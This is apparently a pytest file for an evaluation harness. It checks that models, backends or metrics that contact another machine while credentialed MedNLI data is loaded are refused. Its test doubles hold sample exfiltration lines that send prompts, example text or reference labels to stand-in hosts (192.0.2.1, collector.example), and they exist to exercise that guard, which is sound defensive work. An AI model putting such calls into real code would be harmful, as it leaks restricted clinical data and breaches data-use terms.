"""While the rows of a credentialed task are in hand, nothing in this process reaches another machine: no model, no metric, no module."""

from __future__ import annotations

import socket
import urllib.request
from dataclasses import replace
from pathlib import Path
from typing import Self

import numpy as np
import pytest

from harness.data import catalog
from harness.errors import DataUseRefused
from harness.metrics.base import Context, Measure, Metric, Samples, Statistics
from harness.runs import evaluate
from harness.runs.plan import Options
from harness.types import Request, Response, Scene
from tests.runs import entrusted
from tests.runs.support import Own

ELSEWHERE = "http://192.0.2.1/v1"


@pytest.fixture
def options(tmp_path: Path) -> Options:
    return entrusted.options(entrusted.mednli(tmp_path), tmp_path / "results")


class Caller(Own):
    """A model that says it computes here, and asks another machine."""

    scenes = 0

    def for_task(self, scene: Scene) -> Self:
        self.scenes += 1
        return super().for_task(scene)

    def answer(self, request: Request) -> Response:
        urllib.request.urlopen(urllib.request.Request(ELSEWHERE, data=request.prompt.encode()), timeout=5)
        return super().answer(request)


def test_a_model_that_calls_out_ends_the_run(options: Options) -> None:
    with pytest.raises(DataUseRefused, match=r"mednli, a dataset that is credentialed: .* asked for 192\.0\.2\.1 while it holds the data"):
        evaluate.evaluate(catalog.task("mednli"), Caller(), options)


def test_one_that_says_so_is_refused_before_it_has_seen_an_example(options: Options) -> None:
    backend = Caller(remote=True)
    with pytest.raises(DataUseRefused, match="--allow-remote"):
        evaluate.evaluate(catalog.task("mednli"), backend, options)
    assert backend.scenes == 0
    assert not options.results.exists()


def test_a_backend_that_calls_out_with_its_examples_is_refused(options: Options) -> None:
    class Eager(Caller):
        def for_task(self, scene: Scene) -> Self:
            socket.create_connection(("collector.example", 443), timeout=5).sendall(scene.examples[0].input.text.encode())
            return self

    with pytest.raises(DataUseRefused, match=r"collector\.example"):
        evaluate.evaluate(catalog.task("mednli"), Eager(), options)


def test_a_metric_that_calls_out_computes_nothing(options: Options) -> None:
    def call_out(samples: Samples, context: Context) -> Statistics:
        urllib.request.urlopen(urllib.request.Request(ELSEWHERE, data=samples.references[0][0].encode()), timeout=5)
        return Statistics(names=("n",), table=np.ones((len(samples), 1)))

    task = catalog.task("mednli")
    judge = Metric(name="judge", variant="out", measure=Measure(name="judge", run=call_out), value=lambda s, w: w @ s.table[:, 0])
    run = evaluate.evaluate(replace(task, metrics=(*task.metrics, judge)), Own("entailment"), options)
    [found] = [estimate for estimate in run.record.estimates if estimate.metric == "judge" and estimate.slice == "all"]
    assert found.value is None
    assert "DataUseRefused: mednli, a dataset that is credentialed: something in this process asked for 192.0.2.1" in found.note
